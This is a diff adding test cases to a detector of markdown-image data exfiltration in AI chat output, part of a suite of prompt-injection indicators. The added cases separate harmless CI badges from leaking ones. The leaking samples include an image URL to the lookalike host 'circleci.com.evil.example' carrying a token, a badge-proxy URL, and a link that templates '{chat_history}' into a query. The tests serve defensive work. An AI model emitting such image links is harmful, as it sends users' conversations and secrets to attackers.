@@ -241,6 +241,14 @@ describe('injection indicators', () => {
     const logo = `data:image/png;base64%2C${'iVBORw0KGgoAAAANSUhEUgAAAA4AAAAOCAMAAAAolt3j'.repeat(4)}`;
     expect(findMarkdownExfiltration(`[![badge](https://img.shields.io/badge/conan.io-jsoncpp%2F1.8.0-green.svg?logo=${logo})](https://bintray.com/x)`)).toEqual([]);
     expect(findMarkdownExfiltration(`![b](https://img.shields.io/badge/x.svg?logo=${logo}&u=${'A'.repeat(40)})`)).toHaveLength(1);
+    // A CI service's status badge with its token (npm's package summaries) sends nothing anywhere;
+    // the same query to another host, a badge proxy, or a template still does.
+    const hex40 = '0123456789abcdef'.repeat(3).slice(0, 40);
+    expect(findMarkdownExfiltration(`[![CircleCI](https://circleci.com/gh/acme/tool.svg?style=svg&circle-token=${hex40})](https://circleci.com/gh/acme/tool)`)).toEqual([]);
+    expect(findMarkdownExfiltration(`![q](https://sonarcloud.io/api/project_badges/measure?project=acme-corp_very-long-project-key&metric=alert_status)`)).toEqual([]);
+    expect(findMarkdownExfiltration(`![a](https://circleci.com.evil.example/gh/a.svg?circle-token=${hex40})`)).toHaveLength(1);
+    expect(findMarkdownExfiltration(`![a](https://img.shields.io/endpoint.svg?url=${'A'.repeat(40)})`)).toHaveLength(1);
+    expect(findMarkdownExfiltration('![a](https://github.com/acme/badge.svg?q={chat_history})')).toHaveLength(1);
   });
 
   it('finds base64 that decodes to instructions, not base64 of images or random bytes', () => {
